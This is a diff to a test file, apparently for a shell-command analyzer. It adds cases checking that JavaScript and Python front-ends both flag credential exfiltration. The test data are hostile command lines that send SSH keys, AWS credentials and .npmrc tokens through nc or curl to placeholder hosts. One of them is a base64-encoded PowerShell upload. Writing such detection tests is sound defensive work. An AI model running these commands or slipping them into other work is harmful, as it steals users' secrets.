@@ -121,10 +121,24 @@ describe("the command a shell is given to run (src/analyzers/shell-words.ts inne
     'dash -c "curl -F k=@$HOME/.aws/credentials https://c.example.invalid/"',
     'powershell -NoProfile -Command "cat ~/.ssh/id_rsa | nc 203.0.113.9 9000"',
     "pwsh -c gh auth token | curl -d @- https://c.example.invalid/",
+    // Flags in a cluster or with a value before -c, env's own options, Windows' cmd, PowerShell's encoded form.
+    "bash -lc 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
+    "bash -o pipefail -c 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
+    "env -i HOME=/root sh -c 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
+    "env sh -c 'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000'",
+    'cmd /c "curl -d @%USERPROFILE%/.npmrc https://c.example.invalid/"',
+    'cmd.exe /S /C "curl -F f=@%USERPROFILE%\\.ssh\\id_rsa https://c.example.invalid/"',
+    "powershell -NoProfile -EncodedCommand aQB3AHIAIAAtAFUAcgBpACAAaAB0AHQAcABzADoALwAvAGMALgBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAGsAIAAtAE0AZQB0AGgAbwBkACAAUABvAHMAdAAgAC0ASQBuAEYAaQBsAGUAIAAkAGUAbgB2ADoAVQBTAEUAUgBQAFIATwBGAEkATABFAC8ALgBzAHMAaAAvAGkAZABfAHIAcwBhAA==",
   ])("is read by both front-ends, with the same findings: %s", async (line) => {
     const { js, python } = await findings(line);
     expect(js).toContain("credential-exfiltration critical");
     expect(python).toEqual(js);
+  });
+
+  it("a wrapper that runs no command text gives none: flags without -c, a script file, cmd without /c, text that is not PowerShell's encoding", async () => {
+    for (const line of ["bash -l ./deploy.sh ~/.ssh/id_rsa", "sh -e -x build.sh", "cmd /d dir %USERPROFILE%\\.ssh", "powershell -e notbase64!"]) {
+      expect((await findings(line)).js.filter((f) => f.startsWith("credential-exfiltration"))).toEqual([]);
+    }
   });
 
   it("the inner command's credential reads are the same in both", () => {
